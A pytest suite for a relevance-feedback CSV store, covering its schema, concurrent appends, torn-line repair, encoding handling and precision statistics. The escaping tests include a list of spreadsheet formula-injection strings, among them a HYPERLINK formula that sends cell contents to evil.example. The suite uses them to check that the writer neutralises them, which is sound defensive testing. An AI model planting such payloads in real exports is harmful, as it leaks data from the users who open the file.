"""The relevance-feedback store: schema, concurrency, escaping, torn lines, reading, stats."""

from __future__ import annotations

import csv
import io
import multiprocessing as mp
import os
import signal
import sys
import threading
from pathlib import Path

import pandas as pd
import pytest

from envlf.feedback import store as feedback
from envlf.feedback.store import (
    COLUMNS_V1,
    COLUMNS,
    FeedbackRow,
    FeedbackStore,
    encode_rows,
    read_feedback,
    repair,
    summary,
)

BOM = b"\xef\xbb\xbf"
SHA = "ab" * 32


def make_row(**kw) -> FeedbackRow:
    base = dict(annotator="alice", direction="t2i", query_text="planes near a terminal",
                item_id="img_001", item_text="images/img_001.png", rank=1, itc_score=0.31,
                itm_score=0.87, label="relevant", model_fingerprint="m1", index_fingerprint="i1",
                app_version="0.1.0")
    base.update(kw)
    return FeedbackRow(**base)


def raw_lines(path: Path) -> list[bytes]:
    data = path.read_bytes()
    assert data.endswith(b"\n")
    return data.split(b"\n")[:-1]


def mp_context():
    # fork: children inherit the imported modules, so 8 of them start in milliseconds.
    methods = mp.get_all_start_methods()
    return mp.get_context("fork" if "fork" in methods else "spawn")


# --------------------------------------------------------------------------- schema


def test_columns_are_the_documented_schema(tmp_path):
    assert COLUMNS == (
        "time_utc", "annotator", "direction", "query_text", "query_image_id", "query_image_sha256",
        "item_id", "item_text", "rank", "itc_score", "itm_score", "label", "grade",
        "model_fingerprint", "index_fingerprint", "app_version", "lon", "lat", "row_id")
    assert COLUMNS_V1 == tuple(c for c in COLUMNS if c not in ("lon", "lat"))
    assert [f.name for f in feedback.dataclasses.fields(FeedbackRow)] == list(COLUMNS)
    path = tmp_path / "fb.csv"
    FeedbackStore(path).append(make_row())
    header = raw_lines(path)[0]
    assert header.decode() == ",".join(COLUMNS)  # plain UTF-8: no byte-order mark


def test_a_chip_place_round_trips_and_bad_places_are_refused(tmp_path):
    path = tmp_path / "fb.csv"
    FeedbackStore(path).append([make_row(lon=14.912345678, lat=45.123), make_row()])
    df, report = read_feedback(path)
    assert not report.skipped
    assert df["lon"].tolist()[0] == 14.912345678 and df["lat"].tolist()[0] == 45.123
    assert df[["lon", "lat"]].iloc[1].isna().all()
    for bad, msg in (({"lon": 1.0}, "come together"), ({"lon": 181.0, "lat": 0.0}, "bad lon"),
                     ({"lon": 0.0, "lat": float("nan")}, "bad lat"), ({"lon": "14", "lat": 1.0}, "bad lon")):
        with pytest.raises(ValueError, match=msg):
            FeedbackStore(path).append(make_row(**bad))
    assert len(read_feedback(path)[0]) == 2  # nothing written by the refused appends


def test_a_version_1_file_keeps_its_layout_and_reads_with_empty_places(tmp_path, caplog):
    path = tmp_path / "old.csv"
    v1 = feedback.encode_rows([make_row()], COLUMNS_V1)
    path.write_bytes((",".join(COLUMNS_V1) + "\n").encode() + v1)
    with caplog.at_level("WARNING"):
        FeedbackStore(path).append([make_row(lon=1.5, lat=2.5), make_row(lon=1.0, lat=2.0)])
    assert "header of version 1" in caplog.text
    records = list(csv.reader(io.StringIO(path.read_text())))
    assert records[0] == list(COLUMNS_V1) and {len(r) for r in records} == {len(COLUMNS_V1)}
    df, report = read_feedback(path)
    assert len(df) == 3 and not report.skipped and list(df.columns) == list(COLUMNS)
    assert df["lon"].isna().all()
    # a torn last row of a version-1 file that is complete gets its newline back, not cut off
    path.write_bytes(path.read_bytes()[:-1])
    assert feedback.repair(path).action == "terminated"
    assert len(read_feedback(path)[0]) == 3


NON_ASCII = "café près du port · 港口 · Zürich"


@pytest.mark.parametrize("bom", [False, True])
def test_csv_round_trip_through_pandas_and_the_csv_module(tmp_path, bom):
    """What a user's own script sees: the column names and the non-ASCII text, unchanged, with
    pandas and with the csv module, for the default file (no BOM) and an Excel one (bom=True);
    appending to either adds no second mark."""
    path = tmp_path / "fb.csv"
    store = FeedbackStore(path, fsync=False, bom=bom)
    store.append(make_row(query_text=NON_ASCII, item_text="ucm:images/1.tif"))
    store.append(make_row(query_text="second", item_id="img_002"))
    data = path.read_bytes()
    assert data.startswith(BOM) == bom and data.count(BOM) == int(bom)
    encoding = "utf-8-sig" if bom else "utf-8"  # what the docs tell a reader of each kind
    with open(path, newline="", encoding=encoding) as f:
        records = list(csv.DictReader(f))
    assert list(records[0]) == list(COLUMNS)
    assert [r["query_text"] for r in records] == [NON_ASCII, "second"]
    if not bom:  # the default file needs nothing special: plain utf-8, and pandas' defaults
        df = pd.read_csv(path)
    else:
        df = pd.read_csv(path, encoding="utf-8-sig")
    assert list(df.columns) == list(COLUMNS)
    assert df["query_text"].tolist() == [NON_ASCII, "second"]
    assert df["item_text"].tolist()[0] == "ucm:images/1.tif"
    ours, report = read_feedback(path)  # ours reads both
    assert report.clean and ours["query_text"].tolist() == [NON_ASCII, "second"]


def test_defaults_time_and_row_id():
    row = make_row()
    row.validate()
    assert row.time_utc.endswith("Z") and len(row.row_id) == 32
    assert make_row().row_id != row.row_id


@pytest.mark.parametrize("change, reason", [
    (dict(direction="t2t"), "bad direction"),
    (dict(label="maybe"), "bad label"),
    (dict(rank=0), "bad rank"),
    (dict(rank=1.5), "bad rank"),
    (dict(rank=True), "bad rank"),
    (dict(itc_score=float("nan")), "bad itc_score"),
    (dict(itm_score="0.5"), "bad itm_score"),
    (dict(grade=4), "bad grade"),
    (dict(grade=0), "contradicts label"),
    (dict(query_text="  "), "query_text is empty"),
    (dict(direction="i2t", query_text=""), "needs query_image_id or query_image_sha256"),
    (dict(direction="i2t", query_image_sha256="xyz"), "bad query_image_sha256"),
    (dict(item_id=""), "item_id is empty"),
    (dict(annotator=""), "annotator is empty"),
    (dict(time_utc="2024-05-01 12:00:00"), "bad time_utc"),
    (dict(time_utc="2024-02-30T12:00:00Z"), "not a real date"),
    (dict(row_id="not-a-uuid"), "bad row_id"),
    (dict(item_text=7), "item_text must be a string"),
    (dict(query_text="x" * (feedback.MAX_TEXT + 1)), "longer than"),
])
def test_validate_gives_one_line_reason(change, reason):
    with pytest.raises(ValueError, match=reason) as e:
        make_row(**change).validate()
    assert "\n" not in str(e.value)


def test_valid_variants_pass():
    make_row(itc_score=None, itm_score=None).validate()
    make_row(grade=3).validate()
    make_row(label="not_relevant", grade=0).validate()
    make_row(direction="i2t", query_text="", query_image_sha256=SHA.upper(), item_id="cap_1",
             item_text="a caption").validate()
    make_row(direction="i2i", query_text="", query_image_id="img_9").validate()


def test_invalid_batch_writes_nothing(tmp_path):
    path = tmp_path / "fb.csv"
    store = FeedbackStore(path)
    with pytest.raises(ValueError, match="row 1: bad label"):
        store.append([make_row(), make_row(label="yes")])
    assert not path.exists()
    store.append(make_row())
    before = path.read_bytes()
    with pytest.raises(ValueError, match="row 0: unknown feedback fields"):
        store.append([{"annotator": "x", "colour": "red"}])
    with pytest.raises(ValueError, match="missing"):
        store.append({"annotator": "x"})
    assert path.read_bytes() == before


def test_append_accepts_dicts_and_returns_row_ids(tmp_path):
    store = FeedbackStore(tmp_path / "sub" / "fb.csv")  # parent folder is created
    d = make_row().as_dict()
    ids = store.append([d, make_row()])
    df, report = store.read()
    assert list(df["row_id"]) == ids and report.clean


# --------------------------------------------------------------------------- concurrency


def _process_writer(path: str, worker: int, n: int, barrier) -> None:
    store = FeedbackStore(path, fsync=False)
    barrier.wait()  # all processes create the file at the same moment
    for j in range(n):
        # Some rows are long, so a write split in pieces would interleave visibly.
        text = f"w{worker} r{j} " + ("x" * 3000 if j % 10 == 0 else "")
        store.append(make_row(annotator=f"worker{worker}", item_id=f"w{worker}-{j}", item_text=text, rank=j + 1))


def test_processes_append_concurrently(tmp_path):
    path = tmp_path / "fb.csv"
    workers, per_worker = 8, 500
    ctx = mp_context()
    barrier = ctx.Barrier(workers)
    procs = [ctx.Process(target=_process_writer, args=(str(path), w, per_worker, barrier)) for w in range(workers)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(timeout=120)
    assert [p.exitcode for p in procs] == [0] * workers

    lines = raw_lines(path)
    assert len(lines) == 1 + workers * per_worker
    header = ",".join(COLUMNS).encode()
    assert lines[0] == header
    assert sum(line == header for line in lines) == 1
    for line in lines[1:]:  # every line is one whole record
        (fields,) = list(csv.reader([line.decode("utf-8")], strict=True))
        assert len(fields) == len(COLUMNS)
    df, report = read_feedback(path)
    assert report.clean, str(report)
    assert len(df) == workers * per_worker
    assert df["row_id"].is_unique
    assert set(df["item_id"]) == {f"w{w}-{j}" for w in range(workers) for j in range(per_worker)}
    long_rows = df[df["rank"] % 10 == 1]
    assert (long_rows["item_text"].str.len() > 3000).all()


def _create_many(paths: list[str], barrier) -> None:
    for p in paths:
        barrier.wait()
        FeedbackStore(p, fsync=False).append(make_row())


def test_simultaneous_creation_writes_one_header(tmp_path):
    workers, files = 8, 20
    paths = [str(tmp_path / f"fb{i}.csv") for i in range(files)]
    ctx = mp_context()
    barrier = ctx.Barrier(workers)
    procs = [ctx.Process(target=_create_many, args=(paths, barrier)) for _ in range(workers)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(timeout=120)
    assert [p.exitcode for p in procs] == [0] * workers
    for p in paths:
        lines = raw_lines(Path(p))
        assert len(lines) == 1 + workers
        assert sum(line.startswith((BOM + b"time_utc", b"time_utc")) for line in lines) == 1
        assert lines[0].startswith(b"time_utc")


def test_threads_append_concurrently(tmp_path):
    path = tmp_path / "fb.csv"
    shared = FeedbackStore(path, fsync=False)
    n_threads, per_thread = 8, 150
    barrier = threading.Barrier(n_threads)
    errors = []

    def work(t):
        # Half the threads share one store, half have their own (as separate handlers might).
        store = shared if t % 2 else FeedbackStore(path, fsync=False)
        try:
            barrier.wait()
            for j in range(per_thread):
                store.append([make_row(item_id=f"t{t}-{j}-{k}", item_text="y" * 2000) for k in range(2)])
        except Exception as e:  # pragma: no cover - reported below
            errors.append(e)

    threads = [threading.Thread(target=work, args=(t,)) for t in range(n_threads)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    lines = raw_lines(path)
    assert len(lines) == 1 + n_threads * per_thread * 2
    df, report = read_feedback(path)
    assert report.clean, str(report)
    assert len(df) == n_threads * per_thread * 2 and df["row_id"].is_unique


def test_fsync_is_configurable(tmp_path, monkeypatch):
    calls = []
    real = os.fsync
    monkeypatch.setattr(feedback.os, "fsync", lambda fd: (calls.append(fd), real(fd)))
    FeedbackStore(tmp_path / "a.csv", fsync=False).append(make_row())
    assert calls == []
    store = FeedbackStore(tmp_path / "b.csv")
    store.append(make_row())
    n = len(calls)
    assert n >= 1
    store.append(make_row())
    assert len(calls) == n + 1


def test_failed_write_is_rolled_back(tmp_path, monkeypatch):
    path = tmp_path / "fb.csv"
    store = FeedbackStore(path)
    store.append(make_row())
    before = path.read_bytes()
    real_write = os.write

    def disk_full(fd, data):
        real_write(fd, data[:25])  # part of the row reaches the file, then ENOSPC
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(feedback.os, "write", disk_full)
    with pytest.raises(OSError):
        store.append(make_row(item_id="lost"))
    monkeypatch.undo()
    assert path.read_bytes() == before
    store.append(make_row(item_id="next"))
    df, report = read_feedback(path)
    assert report.clean and list(df["item_id"]) == ["img_001", "next"]


# --------------------------------------------------------------------------- escaping

INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1+2", "@SUM(A1:A9)",
              "\tcmd", "'=already quoted", "'plain apostrophe", "'"]


def test_formula_injection_is_neutralised_and_read_back(tmp_path):
    path = tmp_path / "fb.csv"
    rows = [make_row(query_text=text, item_text=text, annotator=text, itc_score=-0.25, itm_score=-1e-5, rank=i + 1)
            for i, text in enumerate(INJECTIONS)]
    FeedbackStore(path).append(rows)
    records = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))[1:]
    idx = {c: COLUMNS.index(c) for c in COLUMNS}
    for rec, text in zip(records, INJECTIONS):
        for col in ("query_text", "item_text", "annotator"):
            cell = rec[idx[col]]
            assert cell[0] == "'", (col, cell)  # a spreadsheet shows it as text
            assert cell[1:] == text
        # numbers stay numbers: no quote before a minus sign
        assert rec[idx["itc_score"]] == "-0.25"
        assert float(rec[idx["itm_score"]]) == -1e-5
    df, report = read_feedback(path)
    assert report.clean
    assert list(df["query_text"]) == INJECTIONS
    assert list(df["item_text"]) == INJECTIONS
    assert list(df["annotator"]) == INJECTIONS
    assert (df["itc_score"] == -0.25).all()


def test_harmless_text_is_not_escaped(tmp_path):
    path = tmp_path / "fb.csv"
    FeedbackStore(path).append(make_row(query_text="a b-c = d", item_text="x@y"))
    text = path.read_text(encoding="utf-8-sig")
    assert ",a b-c = d," in text and ",x@y," in text


def test_control_characters_and_newlines(tmp_path):
    path = tmp_path / "fb.csv"
    nasty = "two planes\r\nnear\ra\nterminal\x00\x07 \u2028end\tTab, \"quoted\" é"
    FeedbackStore(path).append([make_row(query_text=nasty, item_text=nasty), make_row()])
    lines = raw_lines(path)
    assert len(lines) == 3  # one physical line per row: newlines became spaces
    assert b"\x00" not in path.read_bytes()
    df, report = read_feedback(path)
    assert report.clean
    assert df["query_text"][0] == "two planes near a terminal   end\tTab, \"quoted\" é"


# --------------------------------------------------------------------------- torn lines


def _torn_bytes(**kw) -> bytes:
    row = encode_rows([make_row(**kw)])
    cut = row.index("é".encode()) + 1  # cut inside a two-byte UTF-8 character
    return row[:cut]


def test_torn_last_line_is_ignored_then_repaired(tmp_path):
    path = tmp_path / "fb.csv"
    store = FeedbackStore(path)
    store.append([make_row(item_id=f"ok{i}") for i in range(3)])
    torn = _torn_bytes(item_id="torn", item_text="caf\u00e9 and more text")
    with open(path, "ab") as f:
        f.write(torn)

    df, report = read_feedback(path)
    assert list(df["item_id"]) == ["ok0", "ok1", "ok2"]
    assert len(report.torn) == 1 and report.torn[0].line == 5
    assert any("torn last line" in w for w in report.warnings)

    result = repair(path)
    assert result.action == "truncated" and result.removed_bytes == len(torn)
    assert result.copy.name.startswith("fb.csv.torn-") and result.copy.read_bytes() == torn
    assert path.read_bytes().endswith(b"\n")
    assert repair(path).action == "none"
    df, report = read_feedback(path)
    assert report.clean and len(df) == 3

    store.append(make_row(item_id="after"))
    df, report = read_feedback(path)
    assert report.clean and list(df["item_id"]) == ["ok0", "ok1", "ok2", "after"]


def test_append_repairs_a_torn_tail_first(tmp_path):
    path = tmp_path / "fb.csv"
    store = FeedbackStore(path)
    store.append(make_row(item_id="ok"))
    torn = _torn_bytes(item_text="\u00e9" * 10)
    with open(path, "ab") as f:
        f.write(torn)
    store.append(make_row(item_id="new"))  # must not be glued onto the torn row
    df, report = read_feedback(path)
    assert report.clean, str(report)
    assert list(df["item_id"]) == ["ok", "new"]
    copies = list(tmp_path.glob("fb.csv.torn-*"))
    assert len(copies) == 1 and copies[0].read_bytes() == torn


def test_torn_header_is_replaced(tmp_path):
    path = tmp_path / "fb.csv"
    path.write_bytes(BOM + b"time_utc,annot")  # killed while creating the file
    _, report = read_feedback(path)
    assert report.torn
    FeedbackStore(path).append(make_row())
    lines = raw_lines(path)
    assert len(lines) == 2 and lines[0].startswith(b"time_utc,annotator,")  # a new file: no BOM


def test_a_file_of_an_earlier_version_with_a_bom_is_appended_to(tmp_path):
    path = tmp_path / "fb.csv"
    FeedbackStore(path, bom=True).append(make_row(item_id="old"))  # what versions <= 0.1 wrote
    FeedbackStore(path).append(make_row(item_id="new"))
    data = path.read_bytes()
    assert data.startswith(BOM) and data.count(BOM) == 1
    df, report = read_feedback(path)
    assert report.clean and df["item_id"].tolist() == ["old", "new"]


def test_complete_row_without_newline_is_kept(tmp_path):
    path = tmp_path / "fb.csv"
    FeedbackStore(path).append([make_row(item_id="a"), make_row(item_id="b")])
    path.write_bytes(path.read_bytes()[:-1])  # e.g. edited in a text editor
    df, report = read_feedback(path)
    assert list(df["item_id"]) == ["a", "b"] and not report.skipped
    assert any("lacks a newline" in w for w in report.warnings)
    assert repair(path).action == "terminated"
    assert not list(tmp_path.glob("*.torn-*"))
    df, report = read_feedback(path)
    assert report.clean and len(df) == 2


def _killed_writer(path: str, partial: bytes) -> None:
    with feedback._locked_fd(Path(path)) as fd:  # holding the lock, like append does
        os.write(fd, partial)
        os.kill(os.getpid(), signal.SIGKILL)


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX signals")
def test_writer_killed_mid_row(tmp_path):
    path = tmp_path / "fb.csv"
    store = FeedbackStore(path)
    store.append(make_row(item_id="before"))
    partial = encode_rows([make_row(item_id="dying", item_text="z" * 1000)])[:700]
    proc = mp_context().Process(target=_killed_writer, args=(str(path), partial))
    proc.start()
    proc.join(timeout=60)
    assert proc.exitcode == -signal.SIGKILL

    df, report = read_feedback(path)
    assert list(df["item_id"]) == ["before"] and len(report.torn) == 1

    # The dead writer's lock is gone: the next append neither blocks nor glues.
    done = threading.Event()
    t = threading.Thread(target=lambda: (store.append(make_row(item_id="after")), done.set()), daemon=True)
    t.start()
    t.join(timeout=30)
    assert done.is_set(), "append blocked on a dead writer's lock"
    df, report = read_feedback(path)
    assert report.clean and list(df["item_id"]) == ["before", "after"]


# --------------------------------------------------------------------------- reading


def test_foreign_header_is_a_clear_error(tmp_path):
    path = tmp_path / "captions.csv"
    path.write_text("image,caption\na.png,a plane\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"not an EnVLF feedback file: missing columns \['time_utc'"):
        read_feedback(path)
    with pytest.raises(ValueError, match="not an EnVLF feedback file"):
        FeedbackStore(path).append(make_row())
    assert path.read_text() == "image,caption\na.png,a plane\n"
    path.write_text("image,caption\na.png,a plane")  # no final newline: still not ours to repair
    for attempt in (lambda: FeedbackStore(path).append(make_row()), lambda: repair(path)):
        with pytest.raises(ValueError, match="not an EnVLF feedback file"):
            attempt()
    assert path.read_text() == "image,caption\na.png,a plane"
    assert not list(tmp_path.glob("*.torn-*"))


def _write_plain(path: Path, rows: list[list[str]], encoding="utf-8", header=COLUMNS) -> None:
    with open(path, "w", encoding=encoding, newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(header)
        w.writerows(rows)


def _fields(raw: dict[str, str] | None = None, **kw) -> list[str]:
    """A record as our writer encodes it; ``raw`` overrides cells with arbitrary text."""
    fields = feedback._encode_fields(make_row(**kw))
    for name, text in (raw or {}).items():
        fields[COLUMNS.index(name)] = text
    return fields


def test_cp1252_file_is_read_with_a_warning(tmp_path):
    path = tmp_path / "excel.csv"
    _write_plain(path, [_fields(query_text="caf\u00e9 \u2013 parking", item_id="a"), _fields(item_id="b")],
                 encoding="cp1252")
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")
    df, report = read_feedback(path)
    assert list(df["item_id"]) == ["a", "b"]
    assert df["query_text"][0] == "caf\u00e9 \u2013 parking"
    assert any("cp1252" in w and "lines 2" in w for w in report.warnings), report.warnings
    assert report.encodings[str(path)] == "utf-8+cp1252"


def test_utf8_without_bom_and_crlf_are_fine(tmp_path):
    path = tmp_path / "plain.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\r\n").writerows([COLUMNS, _fields(query_text="\u00e9t\u00e9")])
    df, report = read_feedback(path)
    assert report.clean and df["query_text"][0] == "\u00e9t\u00e9"


def test_bad_rows_are_skipped_with_reasons(tmp_path):
    path = tmp_path / "fb.csv"
    good = _fields(item_id="good1")
    dup = _fields(item_id="dup")
    broken = _fields(item_id="broken")
    broken_line = ",".join(broken[:7]) + ',"unclosed quote,' + ",".join(broken[8:])
    rows = [
        good,                                   # line 2
        _fields({"label": "meh"}),              # 3
        _fields({"rank": "first"}),             # 4
        _fields({"itc_score": "high"}),         # 5
        _fields({"direction": "x2y"}),          # 6
        good[:-3],                              # 7 wrong field count
        dup,                                    # 8
        list(COLUMNS),                          # 9 repeated header
        dup,                                    # 10 duplicate row_id
    ]
    _write_plain(path, [])
    with open(path, "a", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        for r in rows:
            w.writerow(r)
        f.write(broken_line + "\n")             # 11: its open quote swallows the next lines
        w.writerow(_fields(item_id="good2"))    # 12
        w.writerow(_fields(item_id="good3"))    # 13
    df, report = read_feedback(path)
    assert list(df["item_id"]) == ["good1", "dup", "good2", "good3"]
    reasons = {s.line: s.reason for s in report.skipped}
    assert "bad label 'meh'" in reasons[3]
    assert "unparseable rank 'first'" in reasons[4]
    assert "unparseable itc_score 'high'" in reasons[5]
    assert "bad direction 'x2y'" in reasons[6]
    assert reasons[7] == f"{len(COLUMNS) - 3} fields, expected {len(COLUMNS)}"
    assert "repeated header" in reasons[9]
    assert reasons[10].startswith("duplicate row_id") and ":8" in reasons[10]
    assert 11 in reasons and set(reasons) == {3, 4, 5, 6, 7, 9, 10, 11}
    assert report.duplicates == 1 and report.rows == 4
    text = str(report)
    assert "skipped 8" in text and f"{path}:3: bad label" in text


def test_several_files_deduplicate_row_ids(tmp_path):
    a, b = tmp_path / "a.csv", tmp_path / "b.csv"
    shared = make_row(item_id="both")
    FeedbackStore(a).append([make_row(item_id="a1"), shared])
    FeedbackStore(b).append([shared, make_row(item_id="b1")])
    df, report = read_feedback([a, b])
    assert list(df["item_id"]) == ["a1", "both", "b1"]
    assert report.duplicates == 1 and report.files == [str(a), str(b)]
    assert report.skipped[0].path == str(b) and report.skipped[0].line == 2


def test_types_of_the_frame(tmp_path):
    path = tmp_path / "fb.csv"
    FeedbackStore(path).append([make_row(itm_score=None, grade=2), make_row(label="not_relevant")])
    df, _ = read_feedback(path)
    assert list(df.columns) == list(COLUMNS)
    assert str(df["time_utc"].dt.tz) == "UTC"
    assert df["rank"].dtype == "int64" and df["itc_score"].dtype == "float64"
    assert pd.isna(df["itm_score"][0]) and df["grade"].dtype == "Int64"
    assert df["grade"][0] == 2 and pd.isna(df["grade"][1])
    empty, report = read_feedback(_empty_file(tmp_path))
    assert list(empty.columns) == list(COLUMNS) and len(empty) == 0


def _empty_file(tmp_path: Path) -> Path:
    path = tmp_path / "empty.csv"
    _write_plain(path, [])
    return path


# --------------------------------------------------------------------------- summary


def test_summary_by_hand(tmp_path):
    q1 = dict(direction="t2i", query_text="planes")
    q2 = dict(direction="i2t", query_text="", query_image_sha256=SHA)
    rows = [
        make_row(**q1, annotator="ann", item_id="a", rank=1, label="relevant", time_utc="2024-05-01T10:00:00Z"),
        make_row(**q1, annotator="ann", item_id="b", rank=2, label="not_relevant", time_utc="2024-05-01T10:00:01Z"),
        make_row(**q1, annotator="ann", item_id="c", rank=6, label="relevant", time_utc="2024-05-01T11:30:00Z"),
        # re-judged later by bob: the latest judgement wins for precision
        make_row(**q1, annotator="bob", item_id="a", rank=1, label="not_relevant", time_utc="2024-05-02T09:00:00Z"),
        make_row(**q2, annotator="bob", item_id="cap1", rank=3, label="relevant", time_utc="2024-05-02T09:10:00Z"),
        make_row(**q2, annotator="bob", item_id="cap2", rank=12, label="not_relevant", time_utc="2024-05-02T09:20:00Z"),
    ]
    path = tmp_path / "fb.csv"
    FeedbackStore(path).append(rows)
    df, _ = read_feedback(path)
    s = summary(df)
    assert s["total"] == 6
    assert s["per_label"].to_dict() == {"relevant": 3, "not_relevant": 3}
    assert s["per_annotator"].loc["ann"].to_dict() == {"relevant": 2, "not_relevant": 1, "total": 3}
    assert s["per_annotator"].loc["bob"].to_dict() == {"relevant": 1, "not_relevant": 2, "total": 3}
    pq = s["per_query"]
    qid1 = feedback.query_id("t2i", "planes")
    qid2 = feedback.query_id("i2t", f"image:sha256:{SHA}")
    assert pq.loc[qid1, "total"] == 4 and pq.loc[qid2, "total"] == 2
    assert pq.loc[qid1, "query"] == "planes" and pq.loc[qid2, "direction"] == "i2t"
    # q1 latest: a(1)=not, b(2)=not, c(6)=rel.  q2: cap1(3)=rel, cap2(12)=not.
    assert pq.loc[qid1, "p@1"] == 0.0
    assert pq.loc[qid1, "p@5"] == 0.0
    assert pq.loc[qid1, "p@10"] == pytest.approx(1 / 3)
    assert pd.isna(pq.loc[qid2, "p@1"])  # nothing judged at rank 1
    assert pq.loc[qid2, "p@5"] == 1.0 and pq.loc[qid2, "p@10"] == 1.0
    assert s["precision_at_k"]["p@1"] == 0.0
    assert s["precision_at_k"]["p@5"] == 0.5
    assert s["precision_at_k"]["p@10"] == pytest.approx((1 / 3 + 1) / 2)
    # what each figure rests on: latest judgements a(1), b(2), cap1(3), c(6), cap2(12)
    assert s["judged_at_k"].to_dict() == {"p@1": 1, "p@5": 3, "p@10": 4}
    day = s["per_day"]
    assert day.loc[pd.Timestamp("2024-05-01", tz="UTC")].to_dict() == {"relevant": 2, "not_relevant": 1}
    assert day.loc[pd.Timestamp("2024-05-02", tz="UTC")].to_dict() == {"relevant": 1, "not_relevant": 2}
    hour = s["per_hour"]
    assert len(hour) == 3 and hour.loc[pd.Timestamp("2024-05-02 09:00", tz="UTC")].sum() == 3


def test_summary_of_nothing(tmp_path):
    df, _ = read_feedback(_empty_file(tmp_path))
    s = summary(df)
    assert s["total"] == 0 and s["per_label"].sum() == 0
    assert s["per_query"].empty and s["precision_at_k"].isna().all()
